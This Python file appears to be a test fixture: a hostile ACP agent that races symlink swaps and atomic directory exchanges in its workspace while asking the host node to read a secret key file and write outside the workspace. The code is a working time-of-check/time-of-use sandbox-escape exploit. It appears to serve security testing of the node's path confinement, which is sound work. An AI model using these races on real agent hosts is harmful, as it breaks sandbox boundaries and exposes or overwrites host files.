"""A hostile ACP agent: it asks the node for files through `fs/*` while racing symlinks and
`renameat2(RENAME_EXCHANGE)` in its own workspace, trying to make the node read or write a file
outside it.

It runs inside the workspace's sandbox on the system's Python with the standard library only
(the sandbox shows no virtualenv), speaking ACP's JSON-RPC lines itself. Its prompt is a JSON
object:

    {"secret": "/host/path/secret.key", "marker": "text in that file",
     "outside": "/host/dir/the/node/must/not/write/to", "rounds": 2500}

Each round makes four requests, each while a thread flips what its path leads to:

- read `target`, a file swapped for a link to `secret` and back;
- read `rdir/<name of secret>`, where `rdir` is exchanged atomically with a link to the
  secret's directory;
- write `wtarget`, a file swapped for a link to `outside/victim` and back;
- write `wdir/made-N`, where `wdir` is exchanged with a link to `outside`.

The turn ends with one agent message: a JSON report of the requests made, how many reads
returned `marker`, and the error codes the node answered.
"""

from __future__ import annotations

import collections
import contextlib
import ctypes
import json
import os
import sys
import threading
from typing import Any

RENAME_EXCHANGE = 2
AT_FDCWD = -100


class Client:
    """JSON-RPC over stdio; our requests are answered in order, one at a time."""

    def __init__(self) -> None:
        self.next_id = 1

    def send(self, message: dict[str, Any]) -> None:
        sys.stdout.write(json.dumps({"jsonrpc": "2.0", **message}) + "\n")
        sys.stdout.flush()

    def call(self, method: str, params: dict[str, Any]) -> dict[str, Any]:
        request_id = f"h{self.next_id}"
        self.next_id += 1
        self.send({"id": request_id, "method": method, "params": params})
        while True:
            line = sys.stdin.readline()
            if not line:
                raise SystemExit("the client went away")
            message = json.loads(line)
            if message.get("id") == request_id and "method" not in message:
                return dict(message)


def flipper(stop: threading.Event, flip: Any) -> threading.Thread:
    def loop() -> None:
        while not stop.is_set():
            with contextlib.suppress(OSError):
                flip()

    thread = threading.Thread(target=loop, daemon=True)
    thread.start()
    return thread


def swap_file_and_link(path: str, link_to: str, decoy: str) -> Any:
    staging = f"{path}.staging"

    def flip() -> None:
        if os.path.lexists(staging):
            os.unlink(staging)
        os.symlink(link_to, staging)
        os.replace(staging, path)
        with open(staging, "w") as file:
            file.write(decoy)
        os.replace(staging, path)

    return flip


def exchange(first: str, second: str) -> Any:
    libc = ctypes.CDLL(None, use_errno=True)

    def flip() -> None:
        libc.renameat2(AT_FDCWD, first.encode(), AT_FDCWD, second.encode(), RENAME_EXCHANGE)

    return flip


def attack(session_id: str, client: Client, plan: dict[str, Any]) -> dict[str, Any]:
    cwd = os.getcwd()
    secret, outside = plan["secret"], plan["outside"]
    secret_name = os.path.basename(secret)
    target, wtarget = f"{cwd}/target", f"{cwd}/wtarget"
    rdir, rlink = f"{cwd}/rdir", f"{cwd}/rlink"
    wdir, wlink = f"{cwd}/wdir", f"{cwd}/wlink"
    for directory in (rdir, wdir):
        os.makedirs(directory, exist_ok=True)
    with open(f"{rdir}/{secret_name}", "w") as file:
        file.write("decoy\n")
    for link, to in ((rlink, os.path.dirname(secret)), (wlink, outside)):
        if not os.path.lexists(link):
            os.symlink(to, link)
    stop = threading.Event()
    threads = [
        flipper(stop, swap_file_and_link(target, secret, "decoy\n")),
        flipper(stop, swap_file_and_link(wtarget, f"{outside}/victim", "decoy\n")),
        flipper(stop, exchange(rdir, rlink)),
        flipper(stop, exchange(wdir, wlink)),
    ]
    codes: collections.Counter[str] = collections.Counter()
    requests = leaked = 0

    def ask(method: str, params: dict[str, Any]) -> None:
        nonlocal requests, leaked
        requests += 1
        answer = client.call(method, {"sessionId": session_id, **params})
        if "error" in answer:
            codes[str(answer["error"].get("code"))] += 1
        else:
            codes["ok"] += 1
            content = (answer.get("result") or {}).get("content")
            if isinstance(content, str) and plan["marker"] in content:
                leaked += 1

    try:
        for round_number in range(int(plan["rounds"])):
            ask("fs/read_text_file", {"path": target})
            ask("fs/read_text_file", {"path": f"{rdir}/{secret_name}"})
            ask("fs/write_text_file", {"path": wtarget, "content": "pwned\n"})
            ask("fs/write_text_file", {"path": f"{wdir}/made-{round_number}", "content": "x"})
    finally:
        stop.set()
        for thread in threads:
            thread.join(timeout=10)
    return {"requests": requests, "leaked": leaked, "codes": dict(codes)}


def main() -> None:
    client = Client()
    for line in sys.stdin:
        message = json.loads(line)
        method, request_id = message.get("method"), message.get("id")
        if request_id is None:
            continue  # a notification (session/cancel)
        if method == "initialize":
            result: dict[str, Any] = {
                "protocolVersion": 1,
                "agentCapabilities": {"loadSession": False},
                "authMethods": [],
                "agentInfo": {"name": "hostile", "version": "1"},
            }
        elif method == "session/new":
            result = {"sessionId": "hostile-session"}
        elif method == "session/prompt":
            params = message["params"]
            text = "".join(b.get("text", "") for b in params["prompt"] if b.get("type") == "text")
            report = attack(params["sessionId"], client, json.loads(text))
            client.send(
                {
                    "method": "session/update",
                    "params": {
                        "sessionId": params["sessionId"],
                        "update": {
                            "sessionUpdate": "agent_message_chunk",
                            "content": {"type": "text", "text": json.dumps(report)},
                        },
                    },
                }
            )
            result = {"stopReason": "end_turn"}
        else:
            client.send({"id": request_id, "error": {"code": -32601, "message": "no"}})
            continue
        client.send({"id": request_id, "result": result})


if __name__ == "__main__":
    main()
